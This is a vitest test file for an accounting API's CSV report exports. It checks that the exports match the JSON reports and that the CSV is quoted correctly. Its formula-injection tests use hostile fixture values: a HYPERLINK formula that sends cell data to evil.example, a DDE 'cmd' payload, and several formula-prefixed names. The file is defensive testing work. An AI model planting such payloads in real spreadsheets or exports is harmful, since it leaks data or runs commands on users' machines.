import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type BankAccount,
  type BankMovement,
  createBank,
  createClient,
  createSupplier,
  type JournalEntry,
  newCompany,
  type StatementSection,
  type TrialBalance,
} from './books.js';
import { type Api, buildTestApp, type TestApp } from './helpers.js';
import { ok } from './problem.js';

/*
 * Every report asked for as CSV (`Accept: text/csv`) gives the figures of its JSON answer: parsed
 * back, each row is a line, a total or a box of the JSON, with money as plain decimals. An account
 * whose name has a comma and quotes checks the quoting.
 */

type Row = Record<string, string>;

let t: TestApp;
let api: Api;
let bank: BankAccount;
const ODD_NAME = 'Fees, "sundry" and more';

beforeAll(async () => {
  t = await buildTestApp();
  api = await newCompany(t);
  bank = await createBank(api);
  const client = await createClient(api, 'Client, with "quotes"');
  const supplier = await createSupplier(api);
  ok(await api.post('/accounts', { code: '7950', name: ODD_NAME, type: 'EXPENSE' }));
  const entry = (date: string, debit: string, credit: string, amount: string) => ({
    reason: 'Entry',
    date,
    manualJournalEntryLines: [
      { accountCode: debit, debitAmountValue: amount },
      { accountCode: credit, creditAmountValue: amount },
    ],
  });
  ok(await api.post('/manualJournalEntries', entry('2026-01-02', bank.ledgerAccountCode, '3000', '12345.67')));
  ok(await api.post('/manualJournalEntries', entry('2026-01-20', '7950', bank.ledgerAccountCode, '99.99')));
  const invoice = ok<{ id: number; totalAmount: string }>(
    await api.post('/invoices', {
      clientId: client.id,
      currency: 'GBP',
      issueDate: '2026-01-10',
      dueDate: '2026-01-31',
      draft: false,
      invoiceLines: [{ quantity: 3, rate: '1234.56', vatRate: 0.2 }],
    }),
  );
  ok(
    await api.post('/clientPayments', {
      clientId: client.id,
      bankAccountId: bank.id,
      currency: 'GBP',
      amount: '1000.00',
      dateReceived: '2026-02-01',
      invoiceIds: [invoice.id],
    }),
  );
  ok(
    await api.post('/bills', {
      supplierId: supplier.id,
      currency: 'USD',
      exchangeRate: 0.8,
      issueDate: '2026-01-15',
      dueDate: '2026-01-15',
      billLines: [{ quantity: 1, unitPrice: '500.00', vatRate: 0, categoryCode: '5000' }],
    }),
  );
});
afterAll(() => t.close());

/** The report as JSON and as CSV rows (each a record by header name). */
async function both<T>(url: string): Promise<{ json: T; rows: Row[] }> {
  const json = ok<T>(await api.get(url));
  const csv = await api.get(url, { accept: 'text/csv' });
  expect(csv.statusCode, csv.body).toBe(200);
  expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
  return { json, rows: parse(csv.body, { columns: true }) as Row[] };
}

/** Money as the JSON writes it (`12,345.67`) in the plain form of the CSV. */
const plain = (amount: string | undefined) => amount?.replaceAll(',', '') ?? '';
const id = (value: number | undefined) => (value === undefined ? '' : String(value));

type Section = StatementSection;

const sectionRows = (name: string, section: Section, compare = true) => [
  ...section.accounts.map((line) => ({
    section: name,
    row: 'account',
    accountId: id(line.accountId),
    code: line.code,
    name: line.name,
    amount: plain(line.amount),
    ...(compare ? { compareAmount: plain(line.compareAmount) } : {}),
  })),
  {
    section: name,
    row: 'total',
    accountId: '',
    code: '',
    name: '',
    amount: plain(section.total),
    ...(compare ? { compareAmount: plain(section.compareTotal) } : {}),
  },
];

describe('reports as CSV', () => {
  it('gives the trial balance line for line, quoting a name with a comma and quotes', async () => {
    const { json, rows } = await both<TrialBalance>('/reports/trialBalance?date=2026-12-31');
    const total = (currency: string, amount: string) => ({
      accountId: '',
      code: '',
      name: 'Total',
      type: '',
      currency,
      debit: amount,
      credit: amount,
    });
    expect(rows).toEqual([
      ...json.lines.map((line) => ({
        ...line,
        accountId: id(line.accountId),
        debit: plain(line.debit),
        credit: plain(line.credit),
      })),
      // Debits: the bank 12,345.67 - 99.99 + 1,000.00 = 13,245.68, trade debtors 4,444.42 - 1,000.00
      // = 3,444.42 and 7950 99.99: 16,790.09. Credits: 3000 12,345.67, sales 3,703.68, VAT 740.74.
      total('GBP', '16790.09'),
      total('USD', '500.00'), // the bill: cost of sales and trade creditors
    ]);
    expect(rows.find((row) => row.code === '7950')).toMatchObject({ name: ODD_NAME, debit: '99.99' });
    expect(rows.find((row) => row.code === '3000')).toMatchObject({ credit: '12345.67' });
  });

  it('gives the profit and loss, compared, with each total after its lines', async () => {
    type Report = {
      income: Section;
      costOfSales: Section;
      expenses: Section;
      grossProfit: string;
      compareGrossProfit: string;
      netProfit: string;
      compareNetProfit: string;
    };
    const { json, rows } = await both<Report>(
      '/reports/profitAndLoss?from=2026-01-01&to=2026-12-31&compareFrom=2025-01-01&compareTo=2025-12-31',
    );
    const total = (section: string, amount: string, compareAmount: string) => ({
      section,
      row: 'total',
      accountId: '',
      code: '',
      name: '',
      amount: plain(amount),
      compareAmount: plain(compareAmount),
    });
    expect(rows).toEqual([
      ...sectionRows('income', json.income),
      ...sectionRows('costOfSales', json.costOfSales),
      total('grossProfit', json.grossProfit, json.compareGrossProfit),
      ...sectionRows('expenses', json.expenses),
      total('netProfit', json.netProfit, json.compareNetProfit),
    ]);
    expect(rows.at(-1)).toMatchObject({ amount: '3203.69', compareAmount: '0.00' }); // 3,703.68 - 400.00 - 99.99
  });

  it('gives the balance sheet with retained and current-year earnings in equity', async () => {
    type Report = {
      assets: Section;
      liabilities: Section;
      equity: Section & { retainedEarnings: string; currentYearEarnings: string };
      netAssets: string;
    };
    const { json, rows } = await both<Report>('/reports/balanceSheet?date=2026-12-31');
    const extra = (row: string, amount: string) => ({
      section: 'equity',
      row,
      accountId: '',
      code: '',
      name: '',
      amount: plain(amount),
    });
    const equityRows = sectionRows('equity', json.equity, false);
    const equityTotal = equityRows.pop();
    expect(rows).toEqual([
      ...sectionRows('assets', json.assets, false),
      ...sectionRows('liabilities', json.liabilities, false),
      ...equityRows,
      extra('retainedEarnings', json.equity.retainedEarnings),
      extra('currentYearEarnings', json.equity.currentYearEarnings),
      equityTotal,
      { section: 'netAssets', row: 'total', accountId: '', code: '', name: '', amount: plain(json.netAssets) },
    ]);
  });

  it('gives the aged receivables and payables, a totals row last', async () => {
    type Amounts = Record<'notDue' | 'days1To30' | 'days31To60' | 'days61To90' | 'over90' | 'total', string>;
    const amounts = (row: Amounts) => ({
      notDue: plain(row.notDue),
      days1To30: plain(row.days1To30),
      days31To60: plain(row.days31To60),
      days61To90: plain(row.days61To90),
      over90: plain(row.over90),
      total: plain(row.total),
    });
    const receivables = await both<{
      currency: string;
      clients: (Amounts & { clientId: number; clientName: string; currency: string })[];
      totals: Amounts;
      revaluation: string;
    }>('/reports/agedReceivables?date=2026-03-15');
    const noAges = { notDue: '', days1To30: '', days31To60: '', days61To90: '', over90: '' };
    expect(receivables.rows).toEqual([
      ...receivables.json.clients.map((row) => ({
        clientId: id(row.clientId),
        clientName: row.clientName,
        currency: row.currency,
        ...amounts(row),
      })),
      { clientId: '', clientName: 'Total', currency: 'GBP', ...amounts(receivables.json.totals) },
      { clientId: '', clientName: 'Revaluation', currency: 'GBP', ...noAges, total: receivables.json.revaluation },
    ]);
    expect(receivables.rows[0]).toMatchObject({ clientName: 'Client, with "quotes"', days31To60: '3444.42' }); // 4,444.42 - 1,000.00
    const payables = await both<{
      suppliers: (Amounts & { supplierId: number; supplierName: string; currency: string })[];
      totals: Amounts;
    }>('/reports/agedPayables?date=2026-03-15&currency=USD');
    expect(payables.rows).toEqual([
      ...payables.json.suppliers.map((row) => ({
        supplierId: id(row.supplierId),
        supplierName: row.supplierName,
        currency: row.currency,
        ...amounts(row),
      })),
      { supplierId: '', supplierName: 'Total', currency: 'USD', ...amounts(payables.json.totals) },
    ]);
  });

  it('gives the nine boxes of the VAT return, and which way box 5 goes', async () => {
    const { json, rows } = await both<{ boxes: Record<string, string>; netVatDueDirection: string }>(
      '/reports/vatReturn?from=2026-01-01&to=2026-03-31',
    );
    expect(rows).toEqual([
      ...Object.entries(json.boxes).map(([name, amount], index) => ({
        box: String(index + 1),
        name,
        amount: plain(amount),
      })),
      { box: '5', name: 'netVatDueDirection', amount: json.netVatDueDirection },
    ]);
    expect(rows[0]).toEqual({ box: '1', name: 'vatDueSales', amount: '740.74' }); // 3 × 1,234.56 = 3,703.68 × 20%
  });

  it('gives the bank statement movement by movement, between its opening and closing balances', async () => {
    type Movement = BankMovement;
    const statementRows = async (query: string) => {
      const { json, rows } = await both<{ transactions: Movement[] }>(`/bankAccounts/${bank.id}/transactions${query}`);
      const movements = json.transactions.map((movement) => ({
        row: 'movement',
        id: id(movement.id),
        date: movement.date,
        transactionId: id(movement.transactionId),
        reversesTransactionId: id(movement.reversesTransactionId),
        sourceType: movement.source.type,
        sourceId: id(movement.source.id),
        amount: plain(movement.amount),
        balance: plain(movement.balance),
      }));
      return { rows, movements };
    };
    const balanceRow = (row: string, balance: string) => ({
      row,
      id: '',
      date: '',
      transactionId: '',
      reversesTransactionId: '',
      sourceType: '',
      sourceId: '',
      amount: '',
      balance,
    });
    const whole = await statementRows('');
    expect(whole.rows).toEqual([
      balanceRow('openingBalance', '0.00'),
      ...whole.movements,
      balanceRow('closingBalance', '13245.68'), // 12,345.67 - 99.99 + 1,000.00
    ]);
    expect(whole.movements.map((row) => row.balance)).toEqual(['12345.67', '12245.68', '13245.68']);
    const fromMidJanuary = await statementRows('?from=2026-01-15');
    expect(fromMidJanuary.rows).toEqual([
      balanceRow('openingBalance', '12345.67'), // the capital paid in on 2 January
      ...fromMidJanuary.movements,
      balanceRow('closingBalance', '13245.68'),
    ]);
    expect(fromMidJanuary.movements.map((row) => row.amount)).toEqual(['-99.99', '1000.00']);
  });

  it('gives the general journal a posting per row, by Accept or by format', async () => {
    type Entry = JournalEntry;
    const { json, rows } = await both<{ transactions: Entry[] }>('/reports/journal?limit=1000');
    expect(rows).toEqual(
      json.transactions.flatMap((entry) =>
        entry.postings.map((posting) => ({
          transactionId: id(entry.id),
          date: entry.date,
          sourceType: entry.source.type,
          sourceId: id(entry.source.id),
          reversesTransactionId: id(entry.reversesTransactionId),
          accountId: id(posting.accountId),
          accountCode: posting.accountCode,
          accountName: posting.accountName,
          currency: posting.currency,
          debit: plain(posting.debit),
          credit: plain(posting.credit),
          baseAmount: plain(posting.baseAmount ?? undefined),
        })),
      ),
    );
    expect((await api.get('/reports/journal?format=csv')).body).toBe(
      (await api.get('/reports/journal', { accept: 'text/csv' })).body,
    );
  });
});

describe('text in the CSV reports', () => {
  /*
   * Text that a spreadsheet would read as a formula (OWASP's CSV injection: a cell beginning with
   * =, +, -, @, a tab or a carriage return) is written with a leading ' so that it shows as text;
   * numbers, negative amounts included, are written as they are.
   */
  const CLIENT = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
  const SUPPLIER = "@SUM(1+1)*cmd|' /C calc'!A0";
  const ACCOUNTS = [
    ['7961', '+1+1', 'EXPENSE'],
    ['7962', '-2+3', 'EXPENSE'],
    ['7963', '\tTabbed', 'EXPENSE'],
    ['7964', '\rReturned', 'EXPENSE'],
    ['4310', '=1+1', 'INCOME'],
    ['3050', '@capital', 'EQUITY'],
  ];
  const NUMBER = /^-?[0-9][0-9,]*(\.[0-9]+)?$/;

  let books: Api;
  let account: BankAccount;
  beforeAll(async () => {
    books = await newCompany(t);
    account = await createBank(books, undefined, '=bank');
    const client = await createClient(books, CLIENT);
    const supplier = await createSupplier(books, SUPPLIER);
    for (const [code, name, type] of ACCOUNTS) ok(await books.post('/accounts', { code, name, type }));
    const entry = (date: string, lines: [string, 'debitAmountValue' | 'creditAmountValue', string][]) =>
      books.post('/manualJournalEntries', {
        reason: '=cmd',
        date,
        manualJournalEntryLines: lines.map(([accountCode, side, amount]) => ({ accountCode, [side]: amount })),
      });
    ok(
      await entry('2026-01-02', [
        [account.ledgerAccountCode, 'debitAmountValue', '1000.00'],
        ['3050', 'creditAmountValue', '1000.00'],
      ]),
    );
    ok(
      await entry('2026-01-20', [
        ['7961', 'debitAmountValue', '10.00'],
        ['7962', 'debitAmountValue', '20.00'],
        ['7963', 'debitAmountValue', '30.00'],
        ['7964', 'debitAmountValue', '40.00'],
        ['4310', 'creditAmountValue', '1300.00'],
        [account.ledgerAccountCode, 'debitAmountValue', '1200.00'],
      ]),
    );
    ok(
      await books.post('/invoices', {
        clientId: client.id,
        currency: 'GBP',
        issueDate: '2026-01-10',
        dueDate: '2026-01-31',
        draft: false,
        invoiceLines: [{ quantity: 1, rate: '100.00', vatRate: 0.2, description: '-desc' }],
      }),
    );
    ok(
      await books.post('/bills', {
        supplierId: supplier.id,
        currency: 'GBP',
        issueDate: '2026-01-15',
        dueDate: '2026-01-15',
        billLines: [{ quantity: 1, unitPrice: '50.00', vatRate: 0, categoryCode: '7961', description: '+desc' }],
      }),
    );
    ok(
      await books.post('/bankTransfers', {
        fromBankAccountId: account.id,
        toBankAccountId: (await createBank(books, undefined, '@savings')).id,
        amount: '1,200.00',
        dateTransferred: '2026-02-01',
      }),
    );
  });

  const EXPORTS = [
    '/reports/trialBalance?date=2026-12-31',
    '/reports/trialBalance?date=2026-12-31&currency=base',
    '/reports/profitAndLoss?from=2026-01-01&to=2026-12-31',
    '/reports/balanceSheet?date=2026-12-31',
    '/reports/agedReceivables?date=2026-03-15',
    '/reports/agedPayables?date=2026-03-15',
    '/reports/vatReturn?from=2026-01-01&to=2026-03-31',
    'the bank statement',
    '/reports/journal?format=csv',
  ];

  const cellsOf = async (url: string) => {
    const path = url === 'the bank statement' ? `/bankAccounts/${account.id}/transactions` : url;
    const response = await books.get(path, { accept: 'text/csv' });
    expect(response.statusCode, response.body).toBe(200);
    return (parse(response.body) as string[][]).flat();
  };

  it.each(EXPORTS)('begins no cell of %s as a formula, numbers apart', async (url) => {
    const cells = await cellsOf(url);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell))).toEqual([]);
  });

  it('writes each name that begins as a formula after a quote, as text', async () => {
    const named = new Set([
      ...(await cellsOf('/reports/agedReceivables?date=2026-03-15')),
      ...(await cellsOf('/reports/agedPayables?date=2026-03-15')),
      ...(await cellsOf('/reports/journal?format=csv')),
    ]);
    for (const name of [CLIENT, SUPPLIER, ...ACCOUNTS.map(([, accountName]) => accountName)]) {
      expect(named).toContain(`'${name}`);
    }
  });

  it('writes negative amounts as plain numbers', async () => {
    const statement = await cellsOf('the bank statement');
    // 1,000.00 in, 1,200.00 in, then 1,200.00 out to savings.
    expect(statement).toContain('-1200.00');
    const journal = await cellsOf('/reports/journal?format=csv');
    expect(journal).toContain('-1300.00'); // the base value of the credit to 4310
  });
});
